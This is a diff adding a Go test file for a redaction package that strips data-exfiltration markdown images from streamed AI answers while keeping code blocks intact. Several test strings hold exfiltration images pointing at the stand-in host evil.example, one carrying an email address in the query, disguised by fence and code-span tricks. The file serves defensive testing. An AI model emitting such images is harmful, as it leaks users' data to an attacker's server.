@@ -1,0 +1,75 @@
+package redact
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"strings"
+	"testing"
+)
+
+// codeAnswers are answers with code: an ordinary coding answer, one whose
+// fence is never closed, one whose fence opens after text the stream holds
+// back (digits, a long token: no early cut before the fence), and answers
+// that try to escape a fence or a span to hide an exfiltration image.
+var codeAnswers = []struct {
+	name, text string
+	keep       []string // must reach the client whole
+}{
+	{"coding answer", "To embed an image in HTML, use an img tag:\n\n```html\n<img src=\"https://example.com/cat.png\" alt=\"cat\">\n<a href=\"https://example.com/docs\">docs</a>\n<script src=\"https://cdn.example.com/app.js\"></script>\n```\n\nIn markdown, write `![cat](https://example.com/cat.png)` or a link such as `[docs](https://example.com/docs)`. " +
+		"That is all there is to it, and the browser fetches the picture when it renders the page. ",
+		[]string{`<img src="https://example.com/cat.png" alt="cat">`, "<script src=\"https://cdn.example.com/app.js\"></script>", "`![cat](https://example.com/cat.png)`", "`[docs](https://example.com/docs)`"}},
+	{"unterminated fence", "Here is the start of the page, which the model did not finish writing:\n~~~html\n<img src=\"https://example.com/cat.png\">\n<iframe src=\"https://example.com/x\">",
+		[]string{`<img src="https://example.com/cat.png">`, `<iframe src="https://example.com/x">`}},
+	{"fence after held text", "order 4111111111111111 id " + strings.Repeat("q7", 40) + "\n```\n<img src=\"https://example.com/cat.png\">\n```\nand then ![ok](https://evil.example/p.png?d=1) more prose follows here.",
+		[]string{`<img src="https://example.com/cat.png">`}},
+	{"fence closed early", "Some prose before the code block that is long enough for cuts.\n```\n```\nNow ![ok](https://evil.example/p.png?d=jane.doe@gmail.com) and prose after it.\n```\n", nil},
+	{"indented closer", "Prose before the code block, long enough to be released early.\n  ```\nx\n```\n![ok](https://evil.example/p.png?d=1)\n```\nthe end of it all. ", nil},
+	{"span tricks", "A line with a stray `` run and then ` ![ok](https://evil.example/p.png?d=1) ` in the same paragraph. <a title='`'>t</a> ![ok](https://evil.example/q.png) ` done.", nil},
+}
+
+// TestStreamCodeIsNotSanitised: markup in code fences and code spans
+// reaches the client whole, buffered and streamed; the exfiltration image
+// outside code loses its URL; the streamed output is byte-identical
+// however the answer is cut (at every byte into two events, and into
+// single bytes) and equal to the buffered one.
+func TestStreamCodeIsNotSanitised(t *testing.T) {
+	t.Parallel()
+	sc, err := safetyScanner()
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := New(safetyRules, nil)
+	for _, a := range codeAnswers {
+		for i, shape := range []StreamOptions{{}, {Step: 16, Lookahead: 128}, {Step: 200, Lookahead: 300}} {
+			t.Run(fmt.Sprintf("%s/shape%d", a.name, i), func(t *testing.T) {
+				t.Parallel()
+				buffered, _, _ := r.Text(sc, a.text, nil)
+				for _, k := range a.keep {
+					if !strings.Contains(buffered, k) {
+						t.Errorf("buffered output lost %q:\n%s", k, buffered)
+					}
+				}
+				if strings.Contains(buffered, "evil.example") {
+					t.Errorf("buffered output keeps the exfiltration URL:\n%s", buffered)
+				}
+				want := feed(t, r, sc, shape, a.text, []string{a.text})
+				if want.text != buffered {
+					t.Fatalf("streamed output differs from buffered\nstream %q\nbuffer %q", want.text, buffered)
+				}
+				for k := 1; k < len(a.text); k++ {
+					got := feed(t, r, sc, shape, a.text, []string{a.text[:k], a.text[k:]})
+					if got.text != want.text {
+						t.Fatalf("split at %d: output differs\n got %q\nwant %q", k, got.text, want.text)
+					}
+				}
+				rng := rand.New(rand.NewPCG(uint64(i), 9))
+				for mode := range 4 {
+					got := feed(t, r, sc, shape, a.text, split(a.text, rng, mode))
+					if got.text != want.text {
+						t.Fatalf("split mode %d: output differs\n got %q\nwant %q", mode, got.text, want.text)
+					}
+				}
+			})
+		}
+	}
+}
